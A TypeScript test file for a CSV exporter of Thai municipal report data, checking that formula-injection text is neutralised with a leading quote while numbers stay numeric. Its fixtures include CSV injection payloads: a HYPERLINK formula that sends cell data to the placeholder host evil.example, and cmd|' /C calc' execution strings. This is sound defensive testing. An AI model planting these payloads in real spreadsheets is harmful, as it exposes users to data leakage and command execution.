/**
 * CSV formula injection (OWASP "CSV Injection"): text read from an untrusted PDF must not reach a
 * spreadsheet as a formula, while the numbers we write (a difference of -1.5) stay numbers.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { Report } from '../../report/schema.js'
import { escapeFormula } from './csv.js'
import { csvTables, documentsTable, findingsTable, indicatorsTable, itemsTable, measuresTable } from './csv-tables.js'
import { createBatchExporter } from './write-batch-exports.js'
import { sampleReport } from '../../../test/export-sample-report.js'

const TRIGGER = /^[=+\-@\t\r]/

describe('escapeFormula', () => {
  it.each([
    ['equals', '=HYPERLINK("http://evil","x")', `'=HYPERLINK("http://evil","x")`],
    ['plus', '+66 2 123 4567', `'+66 2 123 4567`],
    ['minus', "-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ['at', '@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['tab', '\t=1+1', `'\t=1+1`],
    ['carriage return', '\r=1+1', `'\r=1+1`],
    ['a numeric-looking string is still text', '-1.5', `'-1.5`],
    ['plain Thai', 'สำนักปลัด อบต.', 'สำนักปลัด อบต.'],
    ['trigger inside, not first', 'a=b, c-d', 'a=b, c-d'],
    ['leading apostrophe already', "'=1", "'=1"],
    ['empty string', '', ''],
  ])('text: %s', (_name, value, expected) => {
    expect(escapeFormula(value)).toBe(expected)
  })

  it.each([
    ['negative number', -1.5],
    ['zero', 0],
    ['positive number', 93.55],
    ['boolean', true],
    ['null', null],
    ['undefined', undefined],
  ])('leaves %s as it is', (_name, value) => {
    expect(escapeFormula(value)).toBe(value)
  })

  it('no escaped string starts with a trigger, and dropping the added quote gives the original', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', 'ก', '1', ' ') }), (s) => {
        const escaped = escapeFormula(s) as string
        expect(TRIGGER.test(escaped)).toBe(false)
        expect(escaped === s || escaped === `'${s}`).toBe(true)
      }),
    )
  })

  it('never changes a number', () => {
    fc.assert(
      fc.property(fc.double(), (n) => {
        expect(escapeFormula(n)).toBe(n)
      }),
    )
  })
})

/** The sample report with hostile text in every kind of string column read from the document. */
function hostileReport(): Report {
  const report = sampleReport('=HYPERLINK("http://evil.example/?x="&A1,"อบต.")')
  report.organization.province = { ...report.organization.province!, value: '@SUM(1+1)' }
  const [first] = report.indicators
  first!.name = { ...first!.name!, value: '+cmd|\' /C calc\'!A0' }
  first!.items[0]!.title = { ...first!.items[0]!.title!, value: '-2+3+cmd|\' /C calc\'!A0' }
  const measure = first!.measures[0]!
  measure.actions = [{ ...measure.actions[0]!, text: '=1+1' }, ...measure.actions]
  measure.analysis = { ...measure.analysis!, value: '\t=1+1' }
  measure.responsible = [{ ...measure.responsible[0]!, value: '\r=1+1' }]
  measure.responsibleText = { ...measure.responsibleText!, value: '-1.5' }
  report.findings[1]!.message = { en: '=cmd', th: '@ไม่ได้' }
  return report
}

describe('CSV export escapes formulas by default', () => {
  let dir: string
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'ita-export-injection-'))
  })
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true })
  })

  async function exportHostile(options: { escapeFormulas?: boolean } = {}) {
    const exporter = await createBatchExporter(dir, options)
    await exporter.add({ document: '-evil/+report.pdf', report: hostileReport() })
    await exporter.commit()
    const read = async (file: string) => parse(await readFile(join(dir, file), 'utf8'), { columns: true }) as Record<string, string>[]
    return { read }
  }

  it('prefixes every text cell that starts with = + - @ tab or CR with a quote', async () => {
    const { read } = await exportHostile()
    const [doc] = await read(documentsTable.file)
    expect(doc).toMatchObject({
      document: "'-evil/+report.pdf",
      organization: `'=HYPERLINK("http://evil.example/?x="&A1,"อบต.")`,
      province: "'@SUM(1+1)",
      district: 'สองพี่น้อง',
    })
    const [indicator] = await read(indicatorsTable.file)
    expect(indicator!.indicator_name).toBe("'+cmd|' /C calc'!A0")
    const [item] = await read(itemsTable.file)
    expect(item!.title).toBe("'-2+3+cmd|' /C calc'!A0")
    const [measure] = await read(measuresTable.file)
    expect(measure).toMatchObject({
      actions: "'=1+1\nจัดทำคู่มือ, ประกาศ \"มาตรฐาน\"",
      analysis: "'\t=1+1",
      responsible: "'\r=1+1",
      responsible_text: "'-1.5",
    })
    const findings = await read(findingsTable.file)
    expect(findings[1]).toMatchObject({ message_en: "'=cmd", message_th: "'@ไม่ได้" })
  })

  it('keeps numbers as numbers: a negative difference is written -1.5, not quoted', async () => {
    const { read } = await exportHostile()
    const [doc] = await read(documentsTable.file)
    expect(doc!.previous_difference).toBe('-1.5')
    const [indicator] = await read(indicatorsTable.file)
    expect(indicator).toMatchObject({ summary_score: '93.55', fiscal_year: '2568' })
  })

  it('leaves no cell in any CSV that a spreadsheet would evaluate, other than a number', async () => {
    const { read } = await exportHostile()
    for (const table of csvTables) {
      for (const row of await read(table.file)) {
        for (const [column, cell] of Object.entries(row)) {
          if (TRIGGER.test(cell)) expect(Number.isFinite(Number(cell)), `${table.file} ${column} ${JSON.stringify(cell)}`).toBe(true)
        }
      }
    }
  })

  it('writes the text exactly as read when escaping is turned off', async () => {
    const { read } = await exportHostile({ escapeFormulas: false })
    const [doc] = await read(documentsTable.file)
    expect(doc).toMatchObject({ document: '-evil/+report.pdf', organization: hostileReport().organization.name!.value, previous_difference: '-1.5' })
    const [measure] = await read(measuresTable.file)
    expect(measure).toMatchObject({ analysis: '\t=1+1', responsible: '\r=1+1', responsible_text: '-1.5' })
  })
})
